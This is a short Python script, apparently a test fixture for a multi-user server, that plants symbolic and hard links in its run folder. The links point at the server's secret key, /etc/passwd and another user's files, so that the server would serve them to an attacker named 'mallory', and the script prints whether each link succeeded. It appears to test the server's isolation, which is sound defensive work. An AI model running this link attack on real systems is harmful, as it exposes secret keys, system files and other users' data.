"""Attack: links in the script's own run folder that point at files the servers can read.

images/ -> the secret key and /etc/passwd (symbolic and hard links), the saved network,
output.txt and the script itself -> alice's files, results/ -> alice's results folder.
The servers then serve this run folder to mallory. Prints "LINKED <name>" or "DENIED".
"""
import json
import os

KNOWN = json.loads("__KNOWN__")
RUN_DIR = os.path.dirname(os.path.abspath(__file__))
STEM = os.path.splitext(os.path.basename(__file__))[0]
SECRET_KEY = os.path.join(KNOWN["instance_dir"], "secret_key")
ALICE = KNOWN["alice_dir"]


def plant(make, target, name):
    path = os.path.join(RUN_DIR, name)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.lexists(path):
            os.rename(path, path + ".replaced")  # keeps the runner's open output file alive
        make(target, path)
        print("LINKED", name, flush=True)
    except OSError as error:
        print("DENIED", name, repr(error), flush=True)


plant(os.symlink, SECRET_KEY, "images/secret.png")
plant(os.symlink, "/etc/passwd", "images/passwd.png")
plant(os.link, SECRET_KEY, "images/hard_secret.png")
plant(os.symlink, os.path.join(ALICE, "networks", KNOWN["alice_stem"] + ".keras"),
      "networks/%s.keras" % STEM)
plant(os.symlink, os.path.join(ALICE, "output.txt"), "output.txt")
plant(os.symlink, os.path.join(ALICE, KNOWN["alice_stem"] + ".py"), os.path.basename(__file__))
plant(os.symlink, os.path.join(ALICE, "results"), "results")
print("ATTACK-END", flush=True)
